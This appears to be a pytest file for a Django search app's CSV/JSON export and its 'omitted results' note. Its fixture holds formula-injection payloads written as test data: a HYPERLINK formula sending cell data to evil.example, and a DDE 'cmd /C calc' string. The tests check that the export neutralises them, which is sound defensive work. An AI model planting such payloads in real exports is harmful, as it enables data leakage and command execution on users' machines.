"""The result list's footer: the "omitted" note, and the CSV / JSON downloads it offers.

The corpus is the shared NEWS set (a story, its syndicated copy and a correction fold into one
group; the rest stand alone) plus documents whose titles a spreadsheet would run as formulas
and one whose title holds characters HTML escapes, so the tests see what a reader who opens
the download gets.
"""

from __future__ import annotations

import csv
import io
import json
import re
from html import unescape
from urllib.parse import parse_qs, urlsplit

import pytest
from corpora import make_corpus, make_document, make_news, sign_all
from django.test import Client

from searchapp.web.api.schemas import SearchOut

pytestmark = pytest.mark.django_db

FORMULA_TITLES = {
    "f-eq": '=HYPERLINK("http://evil.example/?"&A1,"Solar farm")',
    "f-plus": "+1 solar farm",
    "f-minus": "-2 solar farm",
    "f-at": "@SUM(1+1) solar farm",
}
AMPERSAND_TITLE = 'Solar "farm" <b>AT&T</b> & Co'


@pytest.fixture
def corpus():  # type: ignore[no-untyped-def]
    docs = make_news()
    news = make_corpus()
    for key, title in FORMULA_TITLES.items():
        docs[key] = make_document(
            corpus=news,
            external_id=key,
            title=title,
            text=f"A note about a solar farm, number {key}, with its own words {key * 3}.",
            url="=cmd|' /C calc'!A0" if key == "f-eq" else "",
        )
    docs["amp"] = make_document(
        corpus=news,
        external_id="amp",
        title=AMPERSAND_TITLE,
        text="The solar farm & the <b>grid</b>: a story of AT&T and power lines in Riverton.",
        url="https://example.org/solar?a=1&b=2",
    )
    sign_all("minhash")
    return docs


def _csv_rows(response) -> list[dict[str, str]]:  # type: ignore[no-untyped-def]
    return list(csv.DictReader(io.StringIO(response.content.decode("utf-8"))))


def _export_links(html: str) -> dict[str, str]:
    links = re.findall(r'<a href="(/export/\?[^"]*)" download>(CSV|JSON)</a>', html)
    return {label: unescape(href) for href, label in links}


def test_the_csv_lists_every_result_of_every_page_with_its_group_and_similarity(
    client: Client, corpus, settings
) -> None:
    settings.SEARCH_GROUPS_PER_PAGE = 2  # the web page shows 2 groups; the download has all
    page = client.get("/", {"q": "solar"})
    response = client.get(_export_links(page.content.decode())["CSV"])
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="search-solar.csv"'
    rows = _csv_rows(response)
    ids = {row["external_id"] for row in rows}
    assert {"solar", "solar-syndicated", "solar-corrected", "rooftop", "amp"} <= ids
    assert len(rows) == len(ids), "each result once"
    assert sorted(int(row["rank"]) for row in rows) == list(range(1, len(rows) + 1))
    story = next(row for row in rows if row["external_id"] == "solar")
    together = [row for row in rows if row["group"] == story["group"]]
    assert {row["external_id"] for row in together} == {"solar", "solar-syndicated"}
    assert [row["role"] for row in together] == ["representative", "similar"]
    assert together[0]["similarity"] == ""
    assert 0.8 <= float(together[1]["similarity"]) <= 1.0
    groups = {row["group"] for row in rows}
    assert len(groups) > settings.SEARCH_GROUPS_PER_PAGE
    assert story["document_url"] == f"http://testserver/documents/{corpus['solar'].pk}/"


def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_kept_as_text(
    client: Client, corpus
) -> None:
    rows = {row["external_id"]: row for row in _csv_rows(client.get("/export/", {"q": "solar"}))}
    for key, title in FORMULA_TITLES.items():
        assert rows[key]["title"] == "'" + title  # shown as text, never evaluated
    assert rows["f-eq"]["url"] == "'=cmd|' /C calc'!A0"
    # Nothing else is altered: no HTML escaping in a CSV, the snippet is plain text.
    assert rows["amp"]["title"] == AMPERSAND_TITLE
    assert rows["amp"]["url"] == "https://example.org/solar?a=1&b=2"
    snippet = rows["amp"]["snippet"]
    assert "AT&T" in snippet and "<b>grid</b>" in snippet
    assert "&amp;" not in snippet and "<mark>" not in snippet
    assert rows["solar"]["title"] == "City approves solar farm on old airfield"


def test_the_json_download_is_the_apis_answer_with_every_group(client: Client, corpus) -> None:
    params = {"q": "solar", "group": "minhash", "threshold": "0.8"}
    response = client.get("/export/", {**params, "format": "json"})
    assert response.status_code == 200
    assert response["Content-Type"] == "application/json"
    assert response["Content-Disposition"] == 'attachment; filename="search-solar.json"'
    data = json.loads(response.content)
    SearchOut.model_validate(data)  # the schema /api/openapi.json describes
    api = client.get("/api/search", {**params, "per_page": 100}).json()
    assert [g["representative"]["id"] for g in data["groups"]] == [
        g["representative"]["id"] for g in api["groups"]
    ]
    assert data["num_pages"] == 1 and data["n_groups"] == len(data["groups"])
    titles = {hit["representative"]["title"] for hit in data["groups"]}
    assert AMPERSAND_TITLE in titles


def test_the_download_links_carry_the_searchs_parameters_but_not_its_page(
    client: Client, corpus, settings
) -> None:
    settings.SEARCH_GROUPS_PER_PAGE = 2
    params = {"q": "solar farm", "group": "simhash", "max_distance": "5", "limit": "50"}
    params["page"] = "2"
    html = client.get("/", params).content.decode()
    links = _export_links(html)
    assert set(links) == {"CSV", "JSON"}
    for label, href in links.items():
        query = parse_qs(urlsplit(href).query)
        assert query["q"] == ["solar farm"]
        assert query["group"] == ["simhash"] and query["max_distance"] == ["5"]
        assert query["limit"] == ["50"]
        assert query["format"] == [label.lower()]
        assert "page" not in query


@pytest.mark.parametrize(
    ("params", "named"),
    [
        ({"q": "solar", "format": "xlsx"}, "format: must be csv or json"),
        ({"q": "solar", "threshold": "7"}, "threshold:"),
        ({"q": "solar", "limit": "lots"}, "limit:"),
        ({"q": ""}, "q: enter a query"),
        ({"q": "x" * 1001}, "q: The query is too long"),
    ],
)
def test_a_bad_download_request_is_a_400_naming_the_parameter(
    client: Client, corpus, params, named
) -> None:
    response = client.get("/export/", params)
    assert response.status_code == 400
    assert response["Content-Type"].startswith("text/plain")
    assert named in response.content.decode()


def test_the_download_needs_a_login_when_search_does(client: Client, corpus, settings) -> None:
    settings.SEARCH_REQUIRE_LOGIN = True
    response = client.get("/export/", {"q": "solar"})
    assert response.status_code == 302
    assert response["Location"].startswith("/accounts/login/")


def _omitted_note(html: str) -> str | None:
    match = re.search(r'<p class="omitted"[^>]*>(.*?)</p>', html, re.S)
    return match.group(1) if match else None


@pytest.mark.parametrize(
    ("threshold", "says"),
    [
        ("0.8", "1 very similar result was omitted — show it"),  # the syndicated copy
        ("0.5", "2 very similar results were omitted — show them"),  # and the correction
    ],
)
def test_the_omitted_note_counts_the_results_folded_on_the_page_and_links_to_them(
    client: Client, corpus, threshold, says
) -> None:
    # (the default 0.8 is left out of the address: a redirect)
    html = client.get("/", {"q": "solar", "threshold": threshold}, follow=True).content.decode()
    note = _omitted_note(html)
    assert note is not None
    assert re.sub(r"<[^>]+>", "", unescape(note)).strip() == says
    link = re.search(r'class="show-omitted" href="([^"]+)"', note)
    assert link is not None
    query = parse_qs(urlsplit(unescape(link.group(1))).query)
    # Without JavaScript "show them" repeats the search with nothing folded.
    assert query["group"] == ["none"] and query["q"] == ["solar"] and "page" not in query
    assert "not grouped" in client.get(unescape(link.group(1))).content.decode()


def test_no_omitted_note_when_nothing_is_folded(client: Client, corpus) -> None:
    assert _omitted_note(client.get("/", {"q": "solar", "group": "none"}).content.decode()) is None
    assert _omitted_note(client.get("/", {"q": "Rovers"}).content.decode()) is None


def test_the_download_link_says_what_it_holds(client: Client, corpus) -> None:
    html = client.get("/", {"q": "solar", "limit": "3"}).content.decode()
    assert "Download the groups of the first 3 matches" in html
    assert "Grouping the top" not in html  # every match is on some page now
